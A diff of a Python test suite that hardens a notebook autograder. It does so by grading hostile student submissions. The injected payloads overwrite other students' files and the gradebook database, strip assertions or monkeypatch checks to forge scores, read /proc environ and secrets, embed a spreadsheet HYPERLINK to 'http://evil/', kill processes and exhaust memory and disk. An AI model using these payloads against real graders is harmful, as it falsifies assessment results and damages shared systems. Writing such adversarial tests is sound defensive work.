@@ -66,19 +66,27 @@ class Class:
         self.last_answer = self.questions[-1].answer_id
         self.quiz_release = nbformat.read(course.quizzes_dir / "quiz.ipynb", as_version=4)
         self.lesson_release = nbformat.read(course.lessons_dir / f"{LESSON}.ipynb", as_version=4)
-        self.lesson_solved = solved_copy(self.lesson_release, nbformat.read(course.solutions_dir / f"{LESSON}.ipynb",
-                                                                            as_version=4))
+        self.lesson_solved = solved_copy(
+            self.lesson_release, nbformat.read(course.solutions_dir / f"{LESSON}.ipynb", as_version=4)
+        )
         self.expected = {}  # student -> (assignment, score, statuses that must appear)
-        self.lesson_points = {c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
-                              for c in self.lesson_release.cells if c.metadata.get("nbgrader", {}).get("grade")}
+        self.lesson_points = {
+            c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
+            for c in self.lesson_release.cells
+            if c.metadata.get("nbgrader", {}).get("grade")
+        }
         self.lesson_max = sum(self.lesson_points.values())
         # the honest mistake below costs exactly the attention-mass exercise
         self.lesson_mistake = self.lesson_max - self.lesson_points["test_attention_mass"]
         self.first_release = nbformat.read(course.lessons_dir / f"{FIRST}.ipynb", as_version=4)
-        self.first_solved = solved_copy(self.first_release, nbformat.read(course.solutions_dir / f"{FIRST}.ipynb",
-                                                                          as_version=4))
-        self.first_points = {c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
-                             for c in self.first_release.cells if c.metadata.get("nbgrader", {}).get("grade")}
+        self.first_solved = solved_copy(
+            self.first_release, nbformat.read(course.solutions_dir / f"{FIRST}.ipynb", as_version=4)
+        )
+        self.first_points = {
+            c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
+            for c in self.first_release.cells
+            if c.metadata.get("nbgrader", {}).get("grade")
+        }
 
     def wrong(self, q):
         return next(letter for letter in LETTERS if letter != q.answer)
@@ -95,9 +103,10 @@ class Class:
         nb = copy.deepcopy(self.lesson_solved)
         if wrong_mass:  # an honest mistake the visible checks miss: the mass of the first row is doubled
             cell = _cell(nb, "ex_attention_mass")
-            cell.source = cell.source.replace("return (rows * rationale.float()).sum(-1)",
-                                              "mass = (rows * rationale.float()).sum(-1)\n"
-                                              "    return torch.cat([mass[:2], mass[2:] * 2])")
+            cell.source = cell.source.replace(
+                "return (rows * rationale.float()).sum(-1)",
+                "mass = (rows * rationale.float()).sum(-1)\n    return torch.cat([mass[:2], mass[2:] * 2])",
+            )
         return nb
 
     @staticmethod
@@ -130,9 +139,14 @@ def _attacks(c: Class, outside: Path) -> None:
     c.add("hon_lesson", LESSON, c.lesson(), c.lesson_max)
     c.add("hon_mistake", LESSON, c.lesson(wrong_mass=True), c.lesson_mistake)
     # --- 1. other students' grades and later runs ---------------------------------------------------
-    c.add("a_rewrite", "quiz", c.inject(c.quiz(5), f"""
+    c.add(
+        "a_rewrite",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            f"""
 import os, pathlib
-for target in [{str(victim_copy)!r}, {str(folder / 'zz_victim' / 'quiz' / 'quiz.ipynb')!r}]:
+for target in [{str(victim_copy)!r}, {str(folder / "zz_victim" / "quiz" / "quiz.ipynb")!r}]:
     try:
         pathlib.Path(target).write_text({wrong_quiz!r})
     except OSError as e:
@@ -147,23 +161,39 @@ for root, dirs, files in os.walk("/", onerror=lambda e: None):
                 pathlib.Path(root, name).write_text({wrong_quiz!r})
             except OSError:
                 pass
-"""), 5)
-    c.add("a_gradebook", "quiz", c.inject(c.quiz(5), f"""
+""",
+        ),
+        5,
+    )
+    c.add(
+        "a_gradebook",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            f"""
 import sqlite3
 try:
-    db = sqlite3.connect({str(out / 'gradebook.db')!r})
+    db = sqlite3.connect({str(out / "gradebook.db")!r})
     db.execute("update grade set manual_score = 1")
     db.execute("update grade_cells set source = 'pass'")
     db.commit()
 except Exception as e:
     print("blocked", type(e).__name__)
-"""), 5)
-    c.add("a_daemon", "quiz", c.inject(c.quiz(5), f"""
+""",
+        ),
+        5,
+    )
+    c.add(
+        "a_daemon",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            f"""
 import subprocess, sys
 code = '''
 import time, pathlib
 for _ in range(600):
-    for p in [{str(out / 'grades.csv')!r}, {str(out / 'feedback' / 'zz_victim' / 'quiz' / 'quiz.html')!r}]:
+    for p in [{str(out / "grades.csv")!r}, {str(out / "feedback" / "zz_victim" / "quiz" / "quiz.html")!r}]:
         try:
             pathlib.Path(p).write_text("hon_all,quiz,q1,0,1,ok,owned")
         except OSError:
@@ -172,42 +202,85 @@ for _ in range(600):
 '''
 subprocess.Popen([sys.executable, "-c", code, {MARK!r}], start_new_session=True,
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-"""), 5)
-    c.add("a_key", "quiz", c.inject(c.quiz(5), f"""
+""",
+        ),
+        5,
+    )
+    c.add(
+        "a_key",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            f"""
 import os, pathlib, attnlab
 repo = pathlib.Path(attnlab.__file__).resolve().parents[1]
 for target in [repo / "solutions" / "quiz.ipynb", repo / "quizzes" / "bank.toml", repo / "autograder" / "course.toml",
-               repo / "attnlab" / "checks.py", pathlib.Path({str(outside / 'canary.txt')!r}),
+               repo / "attnlab" / "checks.py", pathlib.Path({str(outside / "canary.txt")!r}),
                pathlib.Path(os.environ.get("ATTNLAB_CACHE_DIR", "/nonexistent")) / "planted.pt"]:
     try:
         target.write_text("owned")
     except OSError as e:
         print("blocked", type(e).__name__)
-"""), 5)
-    c.add("a_startup", "quiz", c.inject(c.quiz(5), """
+""",
+        ),
+        5,
+    )
+    c.add(
+        "a_startup",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            """
 import pathlib
 for home in [pathlib.Path.home(), pathlib.Path("/root"), pathlib.Path("/home/student")]:
     startup = home / ".ipython" / "profile_default" / "startup"
     try:
         startup.mkdir(parents=True, exist_ok=True)
-        (startup / "00-pass.py").write_text("import builtins\\nbuiltins.AssertionError = type('X', (Exception,), {})\\n")
+        (startup / "00-pass.py").write_text(
+            "import builtins\\nbuiltins.AssertionError = type('X', (Exception,), {})\\n"
+        )
     except OSError as e:
         print("blocked", type(e).__name__)
-"""), 5)
-    c.add("a_config", "quiz", c.inject(c.quiz(5), f"""
+""",
+        ),
+        5,
+    )
+    c.add(
+        "a_config",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            f"""
 try:
-    with open({str(out / 'course' / 'nbgrader_config.py')!r}, "a") as f:
+    with open({str(out / "course" / "nbgrader_config.py")!r}, "a") as f:
         f.write("\\nimport os; os.system('touch /tmp/owned')\\n")
 except OSError as e:
     print("blocked", type(e).__name__)
-"""), 5)
+""",
+        ),
+        5,
+    )
     # --- 2. forging one's own score inside the kernel -----------------------------------------------
-    c.add("f_transformer", "quiz", c.inject(c.quiz(5), """
+    c.add(
+        "f_transformer",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            """
 def _blank(lines):
     return [line for line in lines if not line.lstrip().startswith(("assert", "raise"))]
 get_ipython().input_transformers_cleanup.append(_blank)
-"""), 5, {"score_mismatch"})
-    c.add("f_ast", "quiz", c.inject(c.quiz(5), """
+""",
+        ),
+        5,
+        {"score_mismatch"},
+    )
+    c.add(
+        "f_ast",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            """
 import ast
 class _NoAsserts(ast.NodeTransformer):
     def visit_Assert(self, node):
@@ -215,8 +288,17 @@ class _NoAsserts(ast.NodeTransformer):
     def visit_Raise(self, node):
         return ast.Pass()
 get_ipython().ast_transformers.append(_NoAsserts())
-"""), 5, {"score_mismatch"})
-    c.add("f_key_in_kernel", "quiz", c.inject(c.quiz(5), """
+""",
+        ),
+        5,
+        {"score_mismatch"},
+    )
+    c.add(
+        "f_key_in_kernel",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            """
 import builtins
 class _Any(str):
     __eq__ = lambda self, other: True
@@ -225,24 +307,45 @@ class _Any(str):
     def removesuffix(self, *a): return self
     def upper(self): return self
 builtins.str = _Any
-""", after=c.last_answer), 5)
-    c.add("f_patch_checks", LESSON, c.inject(c.lesson(wrong_mass=True), """
+""",
+            after=c.last_answer,
+        ),
+        5,
+    )
+    c.add(
+        "f_patch_checks",
+        LESSON,
+        c.inject(
+            c.lesson(wrong_mass=True),
+            """
 import attnlab.checks as _c
 _c.check = _c.check_tensor = _c.passed = _c.record = lambda *a, **k: None
 check = check_tensor = passed = record = _c.check
-"""), c.lesson_mistake)
-    c.add("f_isclose", LESSON, c.inject(c.lesson(wrong_mass=True), """
+""",
+        ),
+        c.lesson_mistake,
+    )
+    c.add(
+        "f_isclose",
+        LESSON,
+        c.inject(
+            c.lesson(wrong_mass=True),
+            """
 import torch
 torch.isclose = lambda *a, **k: torch.ones((), dtype=torch.bool)
 torch.allclose = lambda *a, **k: True
 class _F(float):
     __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
     __ne__ = lambda self, other: False
-"""), c.lesson_mistake)
+""",
+        ),
+        c.lesson_mistake,
+    )
     alias = copy.deepcopy(c.first_solved)  # calls the library through a name bound before the checks patch it
     _cell(alias, "ex_collect_patterns").source = (
         "_run_with_cache = type(model).run_with_cache\n\n"
-        "def collect_patterns(model, tokens):\n    out, _ = _run_with_cache(model, tokens)\n    return out.attentions")
+        "def collect_patterns(model, tokens):\n    out, _ = _run_with_cache(model, tokens)\n    return out.attentions"
+    )
     c.add("f_alias", FIRST, alias, sum(c.first_points.values()) - c.first_points["test_collect_patterns"])
     duplicated = c.quiz(5)
     fake = copy.deepcopy(_cell(duplicated, c.questions[-1].test_id))
@@ -254,18 +357,23 @@ class _F(float):
         cell.id = f"cell-{n}"
     c.add("f_duplicates", "quiz", duplicated, 5)
     # --- 3. leaks -------------------------------------------------------------------------------------
-    c.add("l_leak", LESSON, c.inject(c.lesson(), f"""
+    c.add(
+        "l_leak",
+        LESSON,
+        c.inject(
+            c.lesson(),
+            f"""
 import os, pathlib
 def _secrets():
     found = []
     for path in ["/proc/1/cmdline", "/proc/1/environ", "/proc/self/environ",
-                 {str(out / 'course' / 'source' / 'quiz' / 'quiz.ipynb')!r}, "../../../source/quiz/quiz.ipynb"]:
+                 {str(out / "course" / "source" / "quiz" / "quiz.ipynb")!r}, "../../../source/quiz/quiz.ipynb"]:
         try:
             found.append(pathlib.Path(path).read_text(errors="replace")[:2000])
         except OSError as e:
             found.append(type(e).__name__)
     try:
-        found.append(" ".join(os.listdir({str(out / 'course' / 'submitted')!r})))
+        found.append(" ".join(os.listdir({str(out / "course" / "submitted")!r})))
     except OSError as e:
         found.append(type(e).__name__)
     found.append(" ".join(f"{{k}}={{v}}" for k, v in os.environ.items()))
@@ -278,11 +386,17 @@ print(_secrets())
 class Leak(Exception):
     pass
 Leak.__name__ = Leak.__qualname__ = '=HYPERLINK("http://evil/"&A1,"x")'
-""", after=None), c.lesson_max)
+""",
+            after=None,
+        ),
+        c.lesson_max,
+    )
     leak = c.folder / "l_leak" / LESSON / f"{LESSON}.ipynb"
     nb = nbformat.read(leak, as_version=4)
     cell = _cell(nb, "ex_flip_rate")
-    cell.source = cell.source.replace("    with torch.no_grad():", "    raise Leak(_secrets())\n    with torch.no_grad():", 1)
+    cell.source = cell.source.replace(
+        "    with torch.no_grad():", "    raise Leak(_secrets())\n    with torch.no_grad():", 1
+    )
     nbformat.write(nb, leak)
     c.expected["l_leak"] = (LESSON, c.lesson_max - c.lesson_points["test_flip_rate"], set())
     # --- 4. one submission ends the batch -----------------------------------------------------------
@@ -296,55 +410,108 @@ Leak.__name__ = Leak.__qualname__ = '=HYPERLINK("http://evil/"&A1,"x")'
         cell.pop("outputs", None)
         cell.pop("execution_count", None)
     c.add("b_raw_cells", "quiz", raw, c.all_right, {"cells_restored"})
-    c.add("b_kill", "quiz", c.inject(c.quiz(5), """
+    c.add(
+        "b_kill",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            """
 import os, signal
 for pid in (os.getppid(), 1, -1):
     try:
         os.kill(pid, signal.SIGKILL)
     except OSError as e:
         print("blocked", type(e).__name__)
-""", after=c.last_answer), 5)
+""",
+            after=c.last_answer,
+        ),
+        5,
+    )
     # --- 5. resources -------------------------------------------------------------------------------
-    c.add("r_memory", "quiz", c.inject(c.quiz(5), """
+    c.add(
+        "r_memory",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            """
 try:
     hog = bytearray(8 * 1024 ** 3)
 except MemoryError:
     print("no memory for that")
-"""), 5)
-    c.add("r_orphans", "quiz", c.inject(c.quiz(5), f"""
+""",
+        ),
+        5,
+    )
+    c.add(
+        "r_orphans",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            f"""
 import subprocess, sys
 for _ in range(3):
-    subprocess.Popen([sys.executable, "-c", "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(300)",
+    subprocess.Popen([sys.executable, "-c",
+                      "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(300)",
                       {MARK!r}], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-"""), 5)
-    c.add("r_disk", "quiz", c.inject(c.quiz(5), f"""
+""",
+        ),
+        5,
+    )
+    c.add(
+        "r_disk",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            f"""
 import os
 from ipykernel.connect import get_connection_file
 sockets = os.path.dirname(get_connection_file())  # the one folder it shares with the grader
-for target in ["big.bin", "/tmp/big.bin", {str(out / 'big.bin')!r}, os.path.join(sockets, "big.bin")]:
+for target in ["big.bin", "/tmp/big.bin", {str(out / "big.bin")!r}, os.path.join(sockets, "big.bin")]:
     try:
         with open(target, "wb") as f:
             for _ in range(1024):
                 f.write(b"x" * 1024 * 1024)
     except OSError as e:
         print("stopped", type(e).__name__)
-"""), 5)
-    c.add("r_outputs", "quiz", c.inject(c.quiz(5), """
+""",
+        ),
+        5,
+    )
+    c.add(
+        "r_outputs",
+        "quiz",
+        c.inject(
+            c.quiz(5),
+            """
 import base64
 from IPython.display import Image, display
-png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
+png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAE"
+                       "hQGAhKmMIQAAAABJRU5ErkJggg==")
 for i in range(3000):
     print("spam " * 200)
     display({"image/png": base64.b64encode(png * 20000).decode()}, raw=True) if i < 60 else None
-"""), 5, {"output_truncated"})
+""",
+        ),
+        5,
+        {"output_truncated"},
+    )
     huge = c.quiz(5)
-    huge.cells.append(nbformat.v4.new_code_cell("x = 1", outputs=[nbformat.v4.new_output(
-        "stream", name="stdout", text="y" * (c.course.max_notebook_bytes + 1000))]))
+    huge.cells.append(
+        nbformat.v4.new_code_cell(
+            "x = 1",
+            outputs=[nbformat.v4.new_output("stream", name="stdout", text="y" * (c.course.max_notebook_bytes + 1000))],
+        )
+    )
     c.add("r_huge_file", "quiz", huge, 0, {"too_large"})
     hang = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
     replay = c.quiz(5)
-    for after, source in [("answer_1", "import time\ntime.sleep(8)"), ("answer_2", "import time\ntime.sleep(8)"),
-                          ("answer_4", hang), ("answer_6", hang), (c.last_answer, hang)]:
+    for after, source in [
+        ("answer_1", "import time\ntime.sleep(8)"),
+        ("answer_2", "import time\ntime.sleep(8)"),
+        ("answer_4", hang),
+        ("answer_6", hang),
+        (c.last_answer, hang),
+    ]:
         c.inject(replay, source, after=after)
     c.add("r_replay", "quiz", replay, 5, {"time_budget"})
     # --- 6. ids and paths ---------------------------------------------------------------------------
@@ -370,8 +537,16 @@ def attacked(tmp_path_factory, course):
     klass = Class(course, root)
     _attacks(klass, outside)
     repo = course.root
-    watched = [repo / "solutions", repo / "quizzes", repo / "autograder", repo / "attnlab", klass.folder, outside,
-               Path.home() / ".ipython", Path.home() / ".cache" / "attnlab"]
+    watched = [
+        repo / "solutions",
+        repo / "quizzes",
+        repo / "autograder",
+        repo / "attnlab",
+        klass.folder,
+        outside,
+        Path.home() / ".ipython",
+        Path.home() / ".cache" / "attnlab",
+    ]
     # The instructor's results are computed (and cached) before the watch starts: they are the grader's own writes.
     for lesson in (FIRST, LESSON):
         instructor_references(course, course.solutions_dir / f"{lesson}.ipynb", references_cache(course), Execution())
@@ -460,8 +635,16 @@ def test_feedback_and_csv_leak_nothing(attacked):
         text = page.read_text()
         assert not [other for other in ids if other != owner and len(other) > 3 and other in text], page
         messages += text
-    for forbidden in (SECRET, "BEGIN HIDDEN", "record(", "HYPERLINK", "is not the correct option", str(klass.out),
-                      "/proc", "Traceback"):
+    for forbidden in (
+        SECRET,
+        "BEGIN HIDDEN",
+        "record(",
+        "HYPERLINK",
+        "is not the correct option",
+        str(klass.out),
+        "/proc",
+        "Traceback",
+    ):
         assert forbidden not in messages, forbidden
     for row in rows:
         assert all(value[:1] not in "=+-@" for value in row.values()), row
@@ -497,7 +680,10 @@ def test_a_regrade_gives_the_same_grades(attacked, course, tmp_path):
         for assignment in (klass.folder / student).iterdir():
             subprocess.run(["cp", "-r", str(assignment), str(subset / student)], check=True)
     again = grade(course, subset, tmp_path / "out", timeout=TIMEOUT)
-    first = {(r["student_id"], r["question"]): r for r in _rows(klass.out) if r["student_id"] in {
-        "hon_five", "f_ast", "a_rewrite", "b_raw_cells", "t_timestamp"}}
+    first = {
+        (r["student_id"], r["question"]): r
+        for r in _rows(klass.out)
+        if r["student_id"] in {"hon_five", "f_ast", "a_rewrite", "b_raw_cells", "t_timestamp"}
+    }
     second = {(r["student_id"], r["question"]): r for r in _rows(again.out)}
     assert first == second
